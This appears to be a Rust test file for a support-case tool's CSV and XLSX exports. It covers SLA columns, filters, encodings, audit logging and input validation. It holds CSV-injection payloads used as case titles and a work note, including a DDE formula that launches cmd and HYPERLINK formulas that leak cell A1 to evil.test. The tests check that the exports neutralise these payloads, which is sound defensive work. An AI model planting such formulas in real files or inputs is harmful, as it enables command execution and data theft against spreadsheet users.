//! Exports on SQLite and PostgreSQL: the case export's rows equal the cases and their SLA clocks
//! as the API shows them (times in Shanghai), filters narrow it, CSV comes in UTF-8 with a BOM or
//! in GB18030, the XLSX file opens in a real reader (calamine) with formula payloads as strings;
//! the time sheet export reads past its batches in order; every export is audited with its row
//! count; customers are refused; bad input is refused with the field named.

use std::io::Cursor;

use calamine::{Data, Reader};
use casebook_store::on_both_backends;
use casebook_store::testing::TestBackend;
use jiff::SignedDuration;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_error};
use crate::queues::at_monday_nine;

on_both_backends!(
    case_export_equals_the_cases_and_their_clocks,
    work_export_reads_every_entry_in_batches,
    exports_refuse_customers_and_bad_input
);

/// Titles from the OWASP CSV-injection list that a case title can hold (a single line).
pub const TITLE_PAYLOADS: [&str; 6] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"点我\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
];

/// Downloads an export; returns the status, the content type and the bytes.
pub(crate) async fn download(
    t: &TestApp,
    token: &str,
    path: &str,
) -> (StatusCode, String, Vec<u8>) {
    let response = t
        .client
        .get(t.url(path))
        .bearer_auth(token)
        .send()
        .await
        .expect("the server answers");
    let status = response.status();
    let kind = response
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (status, kind, response.bytes().await.unwrap().to_vec())
}

/// The records of a UTF-8 CSV export (after its BOM), header first.
pub(crate) fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn csv_of(t: &TestApp, token: &str, path: &str) -> Vec<Vec<String>> {
    let (status, kind, bytes) = download(t, token, path).await;
    assert_eq!(
        status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&bytes)
    );
    assert_eq!(kind, "text/csv; charset=utf-8");
    records(&bytes)
}

fn column(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name:?} in {header:?}"))
}

fn clock_of<'a>(sla: &'a Value, metric: &str) -> &'a Value {
    sla["clocks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["metric"] == metric)
        .max_by_key(|c| c["cycle"].as_i64())
        .unwrap_or_else(|| panic!("no {metric} clock in {sla}"))
}

async fn case_export_equals_the_cases_and_their_clocks(backend: TestBackend) {
    let (t, clock) = at_monday_nine(backend).await;
    let phone = t
        .open_case(
            &t.coordinator,
            json!({"title": "存储阵列性能下降", "description": "IO latency 200 ms", "severity": 2,
                "organization_id": t.a.org_id, "channel": "phone"}),
        )
        .await;
    let mut payload_cases = Vec::new();
    for title in TITLE_PAYLOADS {
        let number = t
            .open_case(
                &t.b.user_token,
                json!({"title": title, "description": "d", "severity": 3}),
            )
            .await;
        payload_cases.push((number, title));
    }
    // Ninety minutes later the engineer answers the phone case: its initial response is met.
    t.advance(&phone, &["in_progress"]).await;
    clock.advance(SignedDuration::from_mins(90));
    let (status, body) = t
        .post(
            &t.engineer,
            &format!("/api/v1/cases/{phone}/comments"),
            json!({"body": "已远程登录检查阵列"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = t
        .post(
            &t.engineer,
            &format!("/api/v1/cases/{phone}/work"),
            json!({"minutes": 45, "activity": "remote"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    clock.advance(SignedDuration::from_mins(30));

    let rows = csv_of(&t, &t.manager, "/api/v1/exports/cases?lang=en").await;
    let header = &rows[0];
    assert_eq!(header.len(), 20 + 4 * 4, "{header:?}");
    assert_eq!(rows.len(), 1 + 1 + TITLE_PAYLOADS.len(), "{rows:?}");
    // Newest first, like the case list.
    assert_eq!(rows[rows.len() - 1][0], phone);
    let row = &rows[rows.len() - 1];
    let at = |name: &str| row[column(header, name)].as_str();
    let (_, case) = t.get(&t.engineer, &format!("/api/v1/cases/{phone}")).await;
    assert_eq!(at("Title"), "存储阵列性能下降");
    assert_eq!(at("Customer number"), "CN-A");
    assert_eq!(at("Organisation"), "Alpha 阿尔法");
    assert_eq!(at("Severity"), "2");
    assert_eq!(at("Status"), "in_progress");
    assert_eq!(at("Status"), case["status"]);
    assert_eq!(at("Tier"), case["tier"]);
    assert_eq!(at("Channel"), "phone");
    assert_eq!(at("Owner"), "engineer@vendor.test");
    assert_eq!(at("Opened (Asia/Shanghai)"), "2026-11-23 09:00:00");
    assert_eq!(at("Closed (Asia/Shanghai)"), "");
    assert_eq!(at("Support plan"), "standard");
    assert_eq!(at("Billable minutes"), "45");
    assert_eq!(at("Other minutes"), "0");
    // Every metric's columns equal the clocks the API shows at the same moment.
    let (_, sla) = t
        .get(&t.engineer, &format!("/api/v1/cases/{phone}/sla"))
        .await;
    for (metric, label) in [
        ("initial_response", "Initial response"),
        ("resolution", "Resolution"),
    ] {
        let c = clock_of(&sla, metric);
        let target = match &c["target"] {
            Value::String(s) => s.clone(),
            t => t["minutes"].to_string(),
        };
        assert_eq!(at(&format!("{label}: target (business minutes)")), target);
        assert_eq!(at(&format!("{label}: state")), c["state"]);
        assert_eq!(
            at(&format!("{label}: business minutes used")),
            c["consumed_minutes"].to_string()
        );
    }
    assert_eq!(at("Initial response: state"), "met");
    assert_eq!(at("Initial response: met or breached"), "met");
    assert_eq!(at("Initial response: target (business minutes)"), "120");
    assert_eq!(at("Initial response: business minutes used"), "90");
    assert_eq!(at("Resolution: state"), "running");
    assert_eq!(at("Resolution: met or breached"), "");
    assert_eq!(at("Resolution: business minutes used"), "120");
    assert_eq!(at("On-site arrival: state"), "", "no on-site clock");

    // Formula payloads are text behind a single quote.
    for (number, title) in &payload_cases {
        let row = rows.iter().find(|r| &r[0] == number).unwrap();
        assert_eq!(row[1], format!("'{title}"), "{row:?}");
    }

    // Filters: organisation, status, owner, severity, days opened.
    let a = t.a.org_id;
    let only_a = csv_of(
        &t,
        &t.manager,
        &format!("/api/v1/exports/cases?organization={a}"),
    )
    .await;
    assert_eq!(only_a.len(), 2);
    assert_eq!(only_a[1][0], phone);
    let owner = t.engineer_id;
    let owned = csv_of(
        &t,
        &t.manager,
        &format!("/api/v1/exports/cases?owner={owner}"),
    )
    .await;
    assert_eq!(owned.len(), 2);
    let new = csv_of(
        &t,
        &t.manager,
        "/api/v1/exports/cases?status=new&severity=3",
    )
    .await;
    assert_eq!(new.len(), 1 + TITLE_PAYLOADS.len());
    let day = csv_of(
        &t,
        &t.manager,
        "/api/v1/exports/cases?from=2026-11-23&to=2026-11-23",
    )
    .await;
    assert_eq!(day.len(), rows.len());
    let later = csv_of(&t, &t.manager, "/api/v1/exports/cases?from=2026-11-24").await;
    assert_eq!(later.len(), 1, "only the header");
    let earlier = csv_of(&t, &t.manager, "/api/v1/exports/cases?to=2026-11-22").await;
    assert_eq!(earlier.len(), 1);

    // GB18030: no mark, the Chinese text and headers in GB18030 bytes.
    let (status, kind, bytes) = download(
        &t,
        &t.manager,
        &format!("/api/v1/exports/cases?format=csv-gb18030&organization={a}&lang=zh-CN"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(kind, "text/csv; charset=gb18030");
    assert!(std::str::from_utf8(&bytes).is_err(), "not UTF-8");
    let (text, _, errors) = encoding_rs::GB18030.decode(&bytes);
    assert!(!errors);
    assert!(!text.starts_with('\u{feff}'));
    assert!(text.starts_with("问题编号,标题,客户号,客户,"), "{text}");
    assert!(text.contains("存储阵列性能下降"), "{text}");
    assert!(text.contains("Alpha 阿尔法"), "{text}");

    // XLSX: a real reader sees each payload as a string cell and no formula anywhere.
    let (status, kind, bytes) = download(&t, &t.manager, "/api/v1/exports/cases?format=xlsx").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        kind,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).expect("an XLSX file");
    let sheet = book.worksheet_range("cases").expect("the cases sheet");
    assert_eq!(sheet.height(), rows.len());
    for (number, title) in &payload_cases {
        let found = sheet
            .rows()
            .find(|r| r[0] == Data::String(number.clone()))
            .unwrap();
        assert_eq!(found[1], Data::String((*title).to_owned()));
    }
    let last = sheet.rows().last().unwrap();
    assert_eq!(last[6], Data::Float(2.0), "severity is a number");
    assert!(matches!(last[13], Data::DateTime(_)), "{:?}", last[13]);
    let formulas = book.worksheet_formula("cases").expect("formulas");
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula"
    );

    // Each export is in the audit log: what, the filters, and the rows once done.
    let (status, log) = t
        .get(&t.manager, "/api/v1/audit?object_type=export&limit=100")
        .await;
    assert_eq!(status, StatusCode::OK, "{log}");
    let entries = log["items"].as_array().unwrap();
    let started: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "export.cases")
        .collect();
    let done: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "export.cases.done")
        .collect();
    assert_eq!(started.len(), 9, "{log}");
    assert_eq!(done.len(), 9, "{log}");
    let gb = started
        .iter()
        .find(|e| e["after"]["format"] == "csv-gb18030")
        .unwrap();
    assert_eq!(gb["actor_label"], "manager@vendor.test");
    assert_eq!(gb["after"]["filters"]["organization"], a);
    let gb_done = done
        .iter()
        .find(|e| e["object_id"] == gb["object_id"])
        .unwrap();
    assert_eq!(gb_done["after"]["rows"], 1);
}

async fn work_export_reads_every_entry_in_batches(backend: TestBackend) {
    let (t, _) = at_monday_nine(backend).await;
    let number = t.case_of_a().await;
    let other = t.case_of_b().await;
    let (status, body) = t
        .post(
            &t.engineer,
            &format!("/api/v1/cases/{number}/work"),
            json!({"minutes": 50, "activity": "phone", "billable": false,
                "note": "=HYPERLINK(\"http://evil.test\",\"x\")", "worked_at": "2026-11-20T02:30:00Z"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    // 2,345 entries on the other case, across the export's batches of 1,000.
    let count = 2345;
    {
        let mut db = t.app.store.write().await.unwrap();
        let case_id = {
            let n: casebook_domain::CaseNumber = other.parse().unwrap();
            casebook_store::cases::get_by_number(&mut db, n)
                .await
                .unwrap()
                .unwrap()
                .id
        };
        let at: jiff::Timestamp = "2026-11-23T01:00:00Z".parse().unwrap();
        for i in 0..count {
            casebook_store::work_entries::insert(
                &mut db,
                &casebook_store::work_entries::NewWork {
                    case_id,
                    user_id: casebook_domain::ids::Id::new(t.engineer_id),
                    contract_id: None,
                    worked_at: at,
                    worked_on: "2026-11-23",
                    minutes: i % 1440 + 1,
                    activity: casebook_domain::work::Activity::Analysis,
                    billable: true,
                    note: &format!("entry {i}"),
                    source: casebook_domain::work::WorkSource::Manual,
                    source_key: None,
                    created_by: None,
                },
                at,
            )
            .await
            .unwrap();
        }
        db.commit().await.unwrap();
    }
    let rows = csv_of(&t, &t.manager, "/api/v1/exports/work?lang=en").await;
    assert_eq!(
        rows[0],
        [
            "Case",
            "Title",
            "Customer number",
            "Organisation",
            "Who",
            "Day",
            "Started (Asia/Shanghai)",
            "Minutes",
            "Hours",
            "Activity",
            "Billable",
            "Contract",
            "Note",
            "Recorded"
        ]
    );
    assert_eq!(rows.len(), 1 + count as usize + 1);
    // Newest first: entry 2344 down to entry 0, then the one recorded through the API.
    for (k, row) in rows[1..=count as usize].iter().enumerate() {
        let i = count - 1 - k as i64;
        assert_eq!(row[0], other);
        assert_eq!(row[12], format!("entry {i}"));
        assert_eq!(row[7], (i % 1440 + 1).to_string());
    }
    let last = rows.last().unwrap();
    assert_eq!(
        last[..],
        [
            number.as_str(),
            "数据库无法连接",
            "CN-A",
            "Alpha 阿尔法",
            "engineer@vendor.test",
            "2026-11-20",
            "2026-11-20 10:30:00",
            "50",
            "0.83",
            "phone",
            "false",
            "",
            "'=HYPERLINK(\"http://evil.test\",\"x\")",
            "manual"
        ]
    );

    // Filters: organisation, billable, days.
    let a = t.a.org_id;
    let of_a = csv_of(
        &t,
        &t.manager,
        &format!("/api/v1/exports/work?organization={a}"),
    )
    .await;
    assert_eq!(of_a.len(), 2);
    let other_time = csv_of(&t, &t.manager, "/api/v1/exports/work?billable=false").await;
    assert_eq!(other_time.len(), 2);
    let week = csv_of(
        &t,
        &t.manager,
        "/api/v1/exports/work?from=2026-11-16&to=2026-11-22",
    )
    .await;
    assert_eq!(week.len(), 2);
    let me = t.engineer_id;
    let mine = csv_of(&t, &t.engineer, &format!("/api/v1/exports/work?user={me}")).await;
    assert_eq!(mine.len(), rows.len());

    // XLSX reads the same rows; the note is a string, the hours a number.
    let (status, _, bytes) = download(&t, &t.manager, "/api/v1/exports/work?format=xlsx").await;
    assert_eq!(status, StatusCode::OK);
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    let sheet = book.worksheet_range("work").unwrap();
    assert_eq!(sheet.height(), rows.len());
    let last = sheet.rows().last().unwrap();
    assert_eq!(
        last[12],
        Data::String("=HYPERLINK(\"http://evil.test\",\"x\")".into())
    );
    assert_eq!(last[8], Data::Float(0.83));
    assert_eq!(last[10], Data::Bool(false));

    let (_, log) = t
        .get(&t.manager, "/api/v1/audit?object_type=export&limit=100")
        .await;
    let full = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "export.work.done")
        .find(|e| e["after"]["format"] == "xlsx")
        .cloned()
        .unwrap_or_default();
    assert_eq!(full["after"]["rows"], count + 1, "{log}");
}

async fn exports_refuse_customers_and_bad_input(backend: TestBackend) {
    let t = TestApp::spawn(backend).await;
    for path in ["/api/v1/exports/cases", "/api/v1/exports/work"] {
        for token in [&t.a.user_token, &t.a.admin_token] {
            let (status, body) = t.get(token, path).await;
            assert_error(status, &body, StatusCode::FORBIDDEN, "forbidden");
        }
        let details = {
            let (status, body) = t.get(&t.manager, &format!("{path}?format=pdf")).await;
            assert_error(
                status,
                &body,
                StatusCode::UNPROCESSABLE_ENTITY,
                "validation_failed",
            )
        };
        assert_eq!(details["fields"][0]["field"], "format", "{details}");
        let (status, body) = t
            .get(&t.manager, &format!("{path}?from=2026-11-30&to=2026-11-01"))
            .await;
        let details = assert_error(
            status,
            &body,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        );
        assert_eq!(details["fields"][0]["field"], "to", "{details}");
        assert_eq!(details["fields"][0]["code"], "before_from", "{details}");
        let (status, body) = t
            .get(&t.manager, &format!("{path}?organization=999999"))
            .await;
        let details = assert_error(
            status,
            &body,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        );
        assert_eq!(details["fields"][0]["field"], "organization", "{details}");
        assert_eq!(details["fields"][0]["code"], "unknown", "{details}");
        let (status, body) = t.get(&t.manager, &format!("{path}?from=2026-13-01")).await;
        let details = assert_error(
            status,
            &body,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        );
        assert_eq!(details["fields"][0]["field"], "from", "{details}");
        // A form's blank day is no limit.
        let (status, _, _) = download(&t, &t.manager, &format!("{path}?from=&to=")).await;
        assert_eq!(status, StatusCode::OK);
        let (status, body) = t.get(&t.manager, &format!("{path}?colour=red")).await;
        assert_error(status, &body, StatusCode::BAD_REQUEST, "invalid_query");
        let (status, body) = t.get(&t.manager, &format!("{path}?lang=fr")).await;
        assert_error(
            status,
            &body,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        );
    }
    let (status, body) = t.get(&t.manager, "/api/v1/exports/cases?status=lost").await;
    assert_error(
        status,
        &body,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    );
    let (status, body) = t.get(&t.manager, "/api/v1/exports/work?user=999999").await;
    let details = assert_error(
        status,
        &body,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    );
    assert_eq!(details["fields"][0]["field"], "user", "{details}");
    // Nothing refused was audited: only the two exports with blank days, each started and done.
    let (_, log) = t.get(&t.manager, "/api/v1/audit?object_type=export").await;
    let entries = log["items"].as_array().unwrap();
    assert_eq!(entries.len(), 4, "{log}");
    assert!(
        entries
            .iter()
            .all(|e| e["after"]["filters"]["from"].is_null() && e["after"]["format"] == "csv"),
        "{log}"
    );
}
